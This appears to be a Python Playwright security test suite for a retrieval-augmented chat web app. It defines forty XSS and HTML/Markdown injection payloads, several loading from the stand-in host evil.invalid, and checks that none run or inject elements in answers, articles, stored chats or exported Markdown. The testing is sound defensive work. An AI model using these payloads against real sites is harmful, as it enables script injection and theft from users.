"""Forty ways to get HTML, script or Markdown to run or load something, in every field that reaches the page."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from markdown_it import MarkdownIt
from playwright.sync_api import Browser, Page, expect

from rag.index import IndexReport
from rag.types import Answer, Article, Turn
from tests.browser.visits import ask, visiting
from tests.web_stage import StageAssistant, on_stage, stage_rooms

OUT = "http://evil.invalid"
PAYLOADS = [
    "<script>window.hit=1</script>",
    "<script src='http://evil.invalid/x.js'></script>",
    "<img src=x onerror=window.hit=1>",
    "<img src='http://evil.invalid/x.png'>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe src='javascript:window.hit=1'></iframe>",
    "<iframe src='http://evil.invalid/'></iframe>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "<object data='http://evil.invalid/x'></object>",
    "<embed src='http://evil.invalid/x'>",
    "<body onload=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<video><source onerror=window.hit=1></video>",
    "<video poster='http://evil.invalid/x.png'></video>",
    "<audio src='http://evil.invalid/x.mp3' autoplay></audio>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<link rel=stylesheet href='http://evil.invalid/x.css'>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<div style=\"background:url('http://evil.invalid/x.png')\">x</div>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href='http://evil.invalid/'>",
    "<form action='http://evil.invalid/'><button>x</button></form>",
    "<a href='javascript:window.hit=1'>x</a>",
    "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
    "</textarea><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "'\"><img src=x onerror=window.hit=1>",
    "${window.hit=1} {{constructor.constructor('window.hit=1')()}}",
    "![x](http://evil.invalid/x.png)",
    "![x](javascript:window.hit=1)",
    "[x](javascript:window.hit=1)",
    "[x](data:text/html,<script>parent.hit=1</script>)",
    "<javascript:window.hit=1>",
    "[x]: javascript:window.hit=1",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "\u202e<\u200bscript>window.hit=1</script>\u2028",
]


class Hostile(StageAssistant):
    """Answers with the question in every field that an answer has."""

    def ask(self, question: str, history: Sequence[Turn] = ()) -> Answer:
        self.text = f"{question} [1]\n\n- {question}\n\n**{question}**"
        fields = {"verdict": question, "notices": (question,), "model": question, "standalone_question": question[::-1]}
        self.extra = fields | {"question": question}
        return super().ask(question, history)


def article(number: int, payload: str) -> Article:
    line = payload.replace("\n", " ")
    text = f"# {line}\n\nThis says {line} here.\n\n## {line}\n\n- {line}\n- more\n\n### Is {line} in this article?\n\n"
    return Article(
        f"a{number}",
        line,
        f"a{number}.md",
        f"{text}Yes.\n\n| {line} | b |\n|---|---|\n| c | {line} |\n",
        {"author": line, line: line},
    )


def stage(folder: Path) -> Any:
    articles = [article(number, payload) for number, payload in enumerate(PAYLOADS)]
    rooms = stage_rooms(Hostile(articles, quotes=(f"This says {PAYLOADS[0]} here.",)), folder)
    rooms.library._update = lambda progress: IndexReport((), 0)
    return rooms


def untouched(page: Page, what: str) -> None:
    """Nothing ran, nothing was put into the page as an element, no address has changed."""
    assert page.evaluate("window.hit === undefined"), what
    for tag in ("iframe", "object", "embed", "video", "audio", "img", "base[href*=evil]", "form[action*=evil]", "math"):
        assert page.locator(f"#pushpull {tag}").count() == 0, f"{what}: {tag}"
    assert page.locator("#pushpull a[href^='javascript']").count() == 0, what
    assert page.locator("#pushpull a[href^='data']").count() == 0, what
    assert "evil" not in page.evaluate("document.baseURI"), what


def test_there_are_forty() -> None:
    assert len(set(PAYLOADS)) == 40


def test_questions_and_answers(browser: Browser, tmp_path: Path) -> None:
    with on_stage(stage(tmp_path)) as url, visiting(browser, url) as page:
        for payload in PAYLOADS:
            ask(page, payload)
            expect(page.locator(".turn.last .question h2")).to_have_text(payload, use_inner_text=False)
            assert payload.split("\u2028")[0] in page.locator(".turn.last .said").text_content()  # type: ignore[operator]
            untouched(page, payload)
        page.locator(".turn.last .cite").first.hover()
        page.get_by_role("tooltip").wait_for()
        untouched(page, "preview")


def test_articles_and_library(browser: Browser, tmp_path: Path) -> None:
    with on_stage(stage(tmp_path)) as url, visiting(browser, url) as page:
        page.goto(f"{url}/#/library")
        names = page.locator(".article-name")
        expect(names).to_have_count(40)
        for number, payload in enumerate(PAYLOADS):
            names.nth(number).click()
            expect(page.locator("#reader h2")).to_have_text(payload)
            page.locator("#reader .about").wait_for()
            untouched(page, payload)
        page.locator("#library-search").fill("this says")
        page.locator(".hit").first.wait_for()
        untouched(page, "search")


def test_what_was_stored_in_the_browser_is_not_believed(browser: Browser, tmp_path: Path) -> None:
    turns = []
    for payload in PAYLOADS:
        citation = {"marker": 1, "article_id": payload, "title": payload, "source": payload, "start": 0, "end": 1}
        citation |= {"quote": payload, "score": payload, "section": payload, "relevance": payload}
        answer = {"kind": payload, "text": f"{payload} [1]", "verdict": payload, "citations": [citation], "seconds": 0}
        answer |= {"model": payload, "follow_ups": [payload], "notices": [payload], "standalone_question": payload}
        turns.append({"question": payload, "answer": answer, "rating": payload})
    kept = json.dumps({"id": "x", "title": PAYLOADS[2], "updated": 1, "turns": turns})
    with on_stage(stage(tmp_path)) as url, visiting(browser, url) as page:
        page.evaluate("(kept) => localStorage.setItem('pushpull.chat.x', kept)", kept)
        page.evaluate("localStorage.setItem('pushpull.chat.y', '{\"turns\":')")
        page.goto(f"{url}/#/chat/x")
        page.reload()
        expect(page.locator("article.turn")).to_have_count(40)
        untouched(page, "stored")
        page.locator(".cite").nth(3).click()
        page.locator("#reader .notice").wait_for()
        untouched(page, "a forged article")


def test_an_odd_answer_in_the_browsers_store_does_not_break_the_page(browser: Browser, tmp_path: Path) -> None:
    odd = [
        None,
        7,
        {"text": 7},
        {"text": "said"},
        {"text": "said", "citations": {}, "related": 1, "notices": "x", "follow_ups": [None, {}]},
        {"text": "said [1]", "citations": [None, 1, {}, {"marker": 1, "title": 7}], "verdict": {"a": 1}},
        {"text": "said", "kind": "refusal", "citations": [], "related": [None, {"title": 1}]},
    ]
    kept = json.dumps({"id": "x", "title": 7, "updated": "x", "turns": [{"question": "q", "answer": a} for a in odd]})
    with on_stage(stage(tmp_path)) as url, visiting(browser, url) as page:
        page.evaluate("(kept) => localStorage.setItem('pushpull.chat.x', kept)", kept)
        page.goto(f"{url}/#/chat/x")
        page.reload()
        expect(page.locator("article.turn")).to_have_count(len(odd))
        expect(page.locator(".said", has_text="said")).to_have_count(4)


def test_an_exported_conversation_loads_nothing(browser: Browser, tmp_path: Path) -> None:
    with on_stage(stage(tmp_path)) as url, visiting(browser, url) as page:
        for payload in PAYLOADS[::6]:
            ask(page, payload)
        ask(page, "![x](http://evil.invalid/x.png)")
        ask(page, "\\<img src='http://evil.invalid/y.png'>")  # its own backslash must not undo an escape
        with page.expect_download() as download:
            page.get_by_role("button", name="Export as Markdown").click()
        page.set_content(MarkdownIt("commonmark").render(Path(download.value.path()).read_text(encoding="utf-8")))
        assert page.locator("img, script, iframe, svg, style, form").count() == 0
        assert "http://evil.invalid/x.png" in (page.locator("body").text_content() or "")


def test_refusals_and_errors(browser: Browser, tmp_path: Path) -> None:
    rooms = stage(tmp_path)
    with on_stage(rooms) as url, visiting(browser, url) as page:
        rooms.chat.assistant.ask = lambda question, history=(): Answer(question, question, "refusal", question)
        for payload in PAYLOADS[:8]:
            ask(page, payload)
            untouched(page, payload)
        httpd = page.request.put(f"{url}/api/articles/{'%3Cimg src=x onerror=window.hit=1%3E.md'}", data="# x\n\nText.")
        assert httpd.ok and "<" not in httpd.json()["source"]
